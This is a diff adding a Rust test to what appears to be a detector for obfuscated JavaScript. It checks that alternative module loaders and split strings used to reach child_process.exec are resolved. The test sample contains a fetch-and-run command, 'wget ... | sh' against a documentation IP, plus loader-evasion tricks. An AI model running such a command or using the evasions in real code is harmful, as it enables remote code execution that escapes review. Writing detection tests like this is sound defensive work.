@@ -523,3 +523,29 @@ fn a_lambda_bound_to_a_name_is_a_helper() {
     ));
     assert!(!found.iter().any(|r| r.contains("curl")), "{found:?}");
 }
+
+#[test]
+fn the_module_loader_under_other_names_loads_as_require() {
+    for loader in [
+        "module.constructor._load",
+        "process.mainModule.require",
+        "module.require",
+    ] {
+        let text = format!(
+            "const cp = {loader}('child_' + 'process');\ncp['ex' + 'ec']('wget -qO- http://198.51.100.5/m | sh');\n"
+        );
+        let found = javascript(&text);
+        assert!(
+            found
+                .iter()
+                .any(|r| r.contains("require(\"child_process\").exec(")),
+            "{loader}: {found:?}"
+        );
+    }
+    // A loader handed a path it cannot read stays unknown.
+    let found = javascript("const m = module.constructor._load(pick());\nm['ex' + 'ec']('ls');\n");
+    assert!(
+        !found.iter().any(|r| r.contains("child_process")),
+        "{found:?}"
+    );
+}
